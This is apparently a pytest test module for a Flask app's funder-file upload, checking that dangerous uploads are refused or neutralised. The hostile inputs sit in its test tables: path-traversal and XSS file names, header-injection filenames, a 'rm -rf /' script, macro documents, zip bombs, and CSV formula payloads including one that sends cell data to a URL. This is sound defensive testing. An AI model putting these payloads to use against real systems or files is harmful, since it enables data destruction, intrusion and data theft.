"""Papers of funders as enemies and accidents send them."""

import csv
import io
import zipfile
from collections.abc import Callable, Iterator
from typing import Any
from uuid import UUID

import pikepdf
import pytest
from flask.testing import FlaskClient
from sqlalchemy import select
from werkzeug.test import TestResponse

from fundapp.audit.models import Staged
from fundapp.donors.models import FunderFile
from fundapp.donors.permissions import EDIT, SEE
from fundapp.vault.cleaning.errors import SENTENCES
from fundapp.vault.files import FileStore
from fundapp.vault.paper_rules import REFUSALS
from tests.donors.pages import hidden
from tests.donors.papers import PLAIN, Desk, Keep
from tests.fixtures.application import VISITOR, Look
from tests.imports.test_sending import Unread
from tests.vault.cleaning.good_documents import docx, pdf, zipped
from tests.vault.cleaning.good_office import odt, with_parts, xlsx
from tests.vault.cleaning.good_pictures import jpeg

pytestmark = pytest.mark.usefixtures("visitor")

Add = Callable[..., UUID]
CANARY = b"Kanarienvogel-4711"


@pytest.fixture
def unkept(store: FileStore) -> Iterator[None]:
    """Nothing may have come into the store."""
    before = set(store.names())
    yield
    assert set(store.names()) == before


NAMES = {
    "../../etc/passwd.txt": "passwd.txt",
    "/abs/olu/te.txt": "te.txt",
    "appel\u202etxt.exe.txt": "appeltxt.exe.txt",
    "a\u200bb\ufeff.txt": "ab.txt",
    "  .. .txt": "txt.txt",
    "L\u0301ettre.txt": "Ĺettre.txt",
    "é" * 300 + ".txt": "é" * 116 + ".txt",
    "=HYPERLINK(1).txt": "=HYPERLINK(1).txt",
    "<img src=x onerror=alert(1)>.txt": "<img src=x onerror=alert(1)>.txt",
}


@pytest.mark.parametrize("name", NAMES)
def test_a_name_does_no_harm(desk: Desk, look: Look, name: str) -> None:
    assert desk.send((name, PLAIN)).status_code == 303
    (found,) = look(select(FunderFile))
    assert found.name == NAMES[name]
    answer = desk.client.get(f"/funders/files/{found.id}")
    assert answer.data == PLAIN
    assert "<img src=x" not in desk.client.get(f"/funders/{desk.funder_id}").text


@pytest.mark.parametrize("part", [b"a\r\nX-Evil: 1.txt", b"a\0b.txt", b'a"; filename="b.exe.txt', b"\xff\xfe.txt"])
def test_a_name_as_no_browser_writes_it_does_no_harm(desk: Desk, look: Look, part: bytes) -> None:
    token = hidden(desk.client.get(desk.address).text.partition("<main")[2])["csrf_token"]
    fields = {"csrf_token": token, "kind": "call"}
    body = b"".join(
        f'--x\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in fields.items()
    )
    head = b'--x\r\nContent-Disposition: form-data; name="file"; filename="' + part + b'"\r\n\r\n'
    how: dict[str, Any] = {"content_type": "multipart/form-data; boundary=x"}
    answer = desk.client.post(desk.address, data=body + head + PLAIN + b"\r\n--x--\r\n", **how)
    assert answer.status_code in {303, 400, 422}
    for found in look(select(FunderFile)):
        assert not set(found.name) & set("\r\n\0/\\")
        got = desk.client.get(f"/funders/files/{found.id}")
        assert "X-Evil" not in got.headers
        assert "\n" not in got.headers["Content-Disposition"]


def _locked() -> bytes:
    out, made = io.BytesIO(), pikepdf.new()
    made.add_blank_page()
    made.save(out, encryption=pikepdf.Encryption(owner="x", user="y"))
    return out.getvalue()


BOOK = "xl/worksheets/sheet1.xml"
REFUSED: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "programme": ("appel.pdf", lambda: b"MZ" + bytes(300), "est un programme"),
    "script": ("appel.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "est un programme"),
    "page": ("appel.txt", lambda: b"<html><script>alert(1)</script>", "pages web"),
    "dessin": ("logo.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>', "pages web"),
    "courriel": ("lettre.eml", lambda: b"From: a@example.org\nMIME-Version: 1.0\n\nBonjour", "pages web"),
    "courriel simple": ("lettre.eml", lambda: b"From: a@example.org\nSubject: x\n\nBonjour", "Renommez-le"),
    "archive": ("papiers.zip", lambda: zipped({"a.txt": b"a"}), "dossier compressé"),
    "macros de Word": ("a.docx", lambda: with_parts(docx(), {"word/vbaProject.bin": b"x"}), "contient des macros"),
    "macros d’Excel": ("a.xlsx", lambda: xlsx({"xl/vbaProject.bin": b"x"}), "contient des macros"),
    "macros de LibreOffice": ("a.odt", lambda: odt({"Basic/x.xml": b"x"}), "contient des macros"),
    "vieux Excel": ("a.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "ancien ou verrouillé"),
    "PDF verrouillé": ("a.pdf", _locked, "mot de passe"),
    "PDF coupé": ("a.pdf", lambda: pdf()[:2000], "abîmé"),
    "bombe": ("a.xlsx", lambda: with_parts(xlsx(), {BOOK: bytes(60_000_000)}), "bien plus volumineux"),
    "bombe de Word": (
        "a.docx",
        lambda: with_parts(docx(), {"word/document.xml": bytes(60_000_000)}),
        "bien plus volumineux",
    ),
    "image nommée PDF": ("convention.pdf", jpeg, "image JPEG"),
    "PDF nommé programme": ("convention.exe", lambda: pdf(1), "Renommez-le"),
    "cellules qui appellent": ("budget.csv", lambda: b"Poste;=cmd|'/c calc'!A1\n", "appelle des programmes"),
    "cellules qui envoient": ("budget.csv", lambda: b'a\n"=WEBSERVICE(""http://x/""&A1)"\n', "appelle des programmes"),
    "voix": ("note.mp3", lambda: b"\xff\xfb\x90\x00" + bytes(4000), "n’est pas accepté"),
}


@pytest.mark.usefixtures("unkept")
@pytest.mark.parametrize("name", REFUSED)
def test_what_is_dangerous_or_is_not_what_it_says_is_refused_in_words(desk: Desk, look: Look, name: str) -> None:
    called, build, said = REFUSED[name]
    answer = desk.send((called, build()), note="Gardé")
    assert answer.status_code == 422
    assert said in answer.text
    assert called in answer.text
    assert 'value="Gardé"' in answer.text
    assert 'aria-invalid="true"' in answer.text
    assert (look(select(FunderFile)), look(select(Staged))) == ([], [])


def test_every_reason_to_refuse_has_a_sentence_of_its_own_page() -> None:
    assert set(REFUSALS) == set(SENTENCES)
    said = " ".join(str(each) for each in REFUSALS.values())
    assert "20 MB" not in said
    assert "voice notes can" not in said.replace("Photos and voice notes can.", "")


def test_a_zip_before_or_behind_a_picture_does_not_come_along(desk: Desk, look: Look) -> None:
    packed = zipped({"x.class": CANARY})
    assert desk.send(("photo.jpg", jpeg() + packed)).status_code in {303, 422}
    for found in look(select(FunderFile)):
        got = desk.client.get(f"/funders/files/{found.id}").data
        assert CANARY not in got
        assert not zipfile.is_zipfile(io.BytesIO(got))


@pytest.mark.usefixtures("unkept")
def test_a_file_of_more_than_25_megabytes_is_refused_and_the_words_stay(desk: Desk, look: Look) -> None:
    answer = desk.send(("gros.txt", b"a" * 25_000_001), note="Gardé")
    assert answer.status_code == 422
    assert "dépasse 25\u00a0Mo" in answer.text or "dépasse 25 Mo" in answer.text
    assert 'value="Gardé"' in answer.text
    assert look(select(FunderFile)) == []


def unread(client: FlaskClient, address: str, size: int) -> TestResponse:
    how: dict[str, Any] = {"content_type": "multipart/form-data; boundary=x", "input_stream": Unread(size)}
    return client.post(address, **how)


def test_two_hundred_megabytes_are_refused_in_words_without_a_byte_being_read(desk: Desk) -> None:
    answer = unread(desk.client, desk.address, 200_000_000)
    assert answer.status_code == 413
    assert "trop à la fois" in answer.text
    assert 'name="note"' in answer.text


@pytest.mark.parametrize("size", [5_000_000, 200_000_000])
def test_whoever_is_not_signed_in_has_nothing_large_read(stranger: FlaskClient, add: Add, size: int) -> None:
    assert unread(stranger, f"/funders/{add(name='Fonds')}/files/new", size).status_code in {302, 401, 413}


@pytest.mark.usefixtures("unkept")
def test_a_form_that_somebody_else_made_writes_nothing(desk: Desk, look: Look) -> None:
    answer = desk.send(("a.txt", PLAIN), token="forged", note="Gardé")
    assert answer.status_code in {400, 422}
    assert 'value="Gardé"' in answer.text
    assert look(select(FunderFile)) == []


def test_a_paper_is_not_removed_by_a_forged_form(desk: Desk, keep_paper: Keep, look: Look) -> None:
    paper = keep_paper(desk.funder_id)
    assert desk.client.post(f"/funders/files/{paper}/remove", data={"csrf_token": "forged"}).status_code == 400
    assert look(select(FunderFile.id)) == [paper]


@pytest.mark.parametrize("may", [frozenset({SEE}), frozenset()])
def test_whoever_may_only_look_fetches_and_whoever_may_not_finds_nothing(
    desk: Desk, look: Look, monkeypatch: pytest.MonkeyPatch, may: frozenset[str]
) -> None:
    desk.send(("a.txt", PLAIN))
    (found,) = look(select(FunderFile))
    token = hidden(desk.client.get(desk.address).text.partition("<main")[2])["csrf_token"]
    actor = type(VISITOR)(VISITOR.id, VISITOR.name, VISITOR.role, may)
    monkeypatch.setattr(desk.client.application.extensions["fundapp.ports"], "identify", lambda: actor)
    address = f"/funders/files/{found.id}"
    sees = SEE in may
    assert EDIT not in may
    assert desk.client.get(address).status_code == (200 if sees else 404)
    assert desk.client.get("/funders/files").status_code == (200 if sees else 404)
    assert desk.client.get("/funders/files/export.csv").status_code == (200 if sees else 404)
    for part in (f"{address}/edit", f"{address}/remove", desk.address):
        assert desk.client.get(part).status_code == (403 if sees else 404)
    assert desk.client.post(f"{address}/remove", data={"csrf_token": token}).status_code == (403 if sees else 404)
    assert desk.send(("b.txt", b"b"), token=token).status_code == (403 if sees else 404)
    assert look(select(FunderFile.name)) == ["a.txt"]
    if sees:
        assert "Ajouter des fichiers" not in desk.client.get(f"/funders/{desk.funder_id}").text
    fetched = look(select(Staged).where(Staged.action == "funder_file.fetched"))
    assert len(fetched) == (1 if sees else 0)


def test_formulas_in_names_and_notes_are_not_run_by_a_spreadsheet(desk: Desk, keep_paper: Keep) -> None:
    keep_paper(desk.funder_id, "=cmd|'x'!A1.pdf", note="@SUM(A1)")
    data = desk.client.get("/funders/files/export.csv", buffered=True).data.decode("utf-8-sig")
    (_head, row) = csv.reader(io.StringIO(data), delimiter=";")
    assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t"))]
    assert "=cmd|'x'!A1.pdf" in row[0]


def test_no_byte_and_no_name_reaches_logs_the_log_or_the_disk(
    desk: Desk, look: Look, store: FileStore, capfd: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    desk.send((f"{CANARY.decode()}.txt", CANARY + b"\n" + b"x" * 700_000), note=f"note {CANARY.decode()}")
    (found,) = look(select(FunderFile))
    assert CANARY in desk.client.get(f"/funders/files/{found.id}").data
    desk.send((f"{CANARY.decode()}.exe", b"MZ" + CANARY))
    out = capfd.readouterr()
    assert CANARY.decode() not in out.out + out.err + caplog.text
    assert not [each for each in look(select(Staged)) if CANARY.decode() in str(each.payload)]
    assert CANARY not in b"".join(store.read(found.id.hex))
    (key,) = look(select(FunderFile.key))
    assert key not in out.out.encode()


def test_nothing_of_a_paper_is_put_in_the_queue(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    """Cleaning is done in the request: Valkey hears of no file."""

    def refuse(*_given: object, **_more: object) -> None:
        raise AssertionError("somebody spoke to Valkey")

    monkeypatch.setattr("redis.connection.AbstractConnection.connect", refuse)
    assert desk.send(("a.txt", PLAIN)).status_code == 303
